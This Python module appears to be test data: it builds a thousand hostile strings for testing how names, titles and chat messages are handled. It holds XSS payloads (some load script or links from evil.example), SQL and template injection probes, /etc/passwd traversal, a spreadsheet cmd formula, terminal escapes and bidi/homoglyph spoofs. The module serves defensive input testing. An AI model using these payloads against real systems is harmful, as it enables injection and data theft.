"""A thousand texts that somebody might write to do more than be read: in names, titles and talk."""

from __future__ import annotations

from typing import Final

__all__ = ["HOSTILE"]

_RUN = "window.__pwned=1"
_SEEDS: Final = (
    f"<script>{_RUN}</script>", f"</script><script>{_RUN}</script>", f"<ScRiPt>{_RUN}</sCrIpT>",
    "<script src=//evil.example/x.js></script>", f"<<script>{_RUN}//<</script>",
    f"<img src=x onerror={_RUN}>", "<img src onerror=__pwned=1>", f'"><img src=x onerror="{_RUN}">',
    f"'><img src=x onerror='{_RUN}'>", f"<img src='x' onerror=&#119;indow.__pwned=1>", f"<svg onload={_RUN}>",
    "<svg onload=__pwned=1>", f"<svg><script>{_RUN}</script></svg>", f"<svg><animate onbegin={_RUN} attributeName=x>",
    f"<math><mtext></mtext><script>{_RUN}</script></math>", f"<body onload={_RUN}>", f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>", f"<video><source onerror={_RUN}>", f"<iframe srcdoc='<script>{_RUN}</script>'>",
    f"<iframe src=javascript:{_RUN}>", f"<a href=javascript:{_RUN}>x</a>", f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}", f"data:text/html,<script>{_RUN}</script>", "vbscript:msgbox(1)",
    "<link rel=stylesheet href=//evil.example>", "<style>*{display:none}</style>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>", "<form action=//evil.example><button>", "<object data=x>", "<embed src=x>",
    "<!--", "-->", "<![CDATA[", "]]>", "<?xml version='1.0'?>", "<!DOCTYPE html>", "</title>", "</textarea>", "</li></ol>",
    "<b>bold", "<h1>big</h1>", "<marquee>", "<plaintext>", "<template>", "<slot>", "<noscript>",
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{%raw%}", "{@html '<b>x</b>'}", "{#if true}", "[[7*7]]", "{{constructor.constructor('1')()}}",
    "{ $name }", "{\"{\"}", "{ -brand }", "{ NUMBER(1) }", "{ $cards -> *[other] x }", "{", "}", "{}", "{{", "}}", ".attr = x", "# comment",
    "-term = x", "[one] x", "*[other] y",
    "&lt;b&gt;", "&amp;", "&#60;script&#62;", "&nbsp;", "&quot;", "&notit;", "&#x202e;", "&", "&&", "<", ">", "<>", "'", '"', "`", "\\", "\\n",
    "\\u003cscript\\u003e", "%3Cscript%3E", "%00", "%s%s%n", "%d", "{0}", "%(name)s", "{name!r}", "$$", "$&", "$1", "$`", "$'",
    "'; DROP TABLE rooms; --", "' OR '1'='1", "1; SELECT pg_sleep(9)", "\" OR \"\"=\"", "Robert'); DELETE FROM events;--",
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x07", "\x00", "\x08\x08", "\x7f", "\r", "\n", "a\nb", "a\r\nb", "\t", "\v", "\u2028", "\u2029", "\x85",
    "\u202eevil\u202c", "\u2066x\u2069", "\u2067x\u2069", "\u2068x", "x\u2069", "\u200e", "\u200f", "\u061c", "\u200b", "a\u200bb", "\u200c", "\u200d",
    "\ufeff", "\u2060", "\u00ad", "\u034f", "\u115f", "\u3164", "\u180e", "שלום", "مرحبا", "مرحبا <b>", "ש!ל?ו", "a ש b", "١٢٣",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f", "e\u0301", "é", "\u0301", "ﷺ", "𒐫", "﷽", "꧅", "ꙮ", "🏳️‍🌈", "👨‍👩‍👧‍👦", "👩🏽‍🚀", "🇨🇿", "❤️", "1️⃣", "🧑‍🤝‍🧑", "😀",
    "ｆｕｌｌ", "ﬁ", "ß", "İ", "ı", "ǅ", "Ⅷ", "①", "½", "ª", "𝕳𝖊𝖑𝖑𝖔", "Ａ", "аdmin", "ΑΒ", "日本語", "한국어", "ไทย", "தமிழ்", "ქართული", "አማርኛ",
    "constructor", "__proto__", "toString", "hasOwnProperty", "null", "undefined", "NaN", "true", "[object Object]", "-0", "1e999", "0x10",
    "../../etc/passwd", "C:\\windows", "file:///etc/passwd", "CON", "nul", "http://evil.example", "//evil.example", "mailto:x@y", "x@y", "@here",
    "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "😀" * 12, "x" * 30, "x" * 80, "x" * 399, "W" * 400, "x" * 2000,
    "very " * 15, "\u00a0", "a\u00a0b", "\u3000", " lead", "trail ", "a  b", ".", "..", "…", "—", "•", "»", "“", "„", "‚", "⟦x⟧", "⟦", "⟧", "\u2068", "\u2069",
)  # fmt: skip
_AROUND: Final = ("{}", "Ann {}", "{} Bo", "({})", "»{}«", '"{}"', "'{}'", "<i>{}</i>", "ש {}")


def _thousand() -> tuple[str, ...]:
    found: dict[str, None] = {}
    for around in _AROUND:
        for seed in _SEEDS:
            found.setdefault(around.replace("{}", seed, 1))
    return tuple(found)[:1000]


HOSTILE: Final = _thousand()
